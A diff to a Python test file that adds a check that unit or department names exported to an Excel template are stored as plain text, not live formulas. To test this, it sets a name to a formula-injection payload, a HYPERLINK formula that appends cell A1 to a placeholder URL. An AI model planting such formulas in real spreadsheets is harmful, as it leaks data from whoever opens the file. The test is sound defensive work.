@@ -96,6 +96,17 @@ def test_the_excel_template_has_a_row_per_unit_and_a_column_per_field() -> None:
     assert row_a[2:] == (60, 45, 96, 40, 70)
 
 
+def test_the_excel_template_never_writes_a_name_as_a_formula() -> None:
+    """A unit or field named like a formula reaches the clerk's Excel as plain text, never a live formula."""
+    a = build_round(manual=False)
+    department = a.units["A"].department
+    department.name = '=HYPERLINK("http://x/?"&A1,"点此")'
+    department.save()
+    sheet = load_workbook(io.BytesIO(values_template_xlsx(round_id=a.round.pk))).worksheets[0]
+    cell = next(row[1] for row in sheet.iter_rows(min_row=2) if row[0].value == department.code)
+    assert (cell.value, cell.data_type) == (department.name, "s")
+
+
 def _upload(rows: list[list[object]], percent_cells: tuple[str, ...] = ()) -> io.BytesIO:
     workbook = Workbook()
     sheet = workbook.active
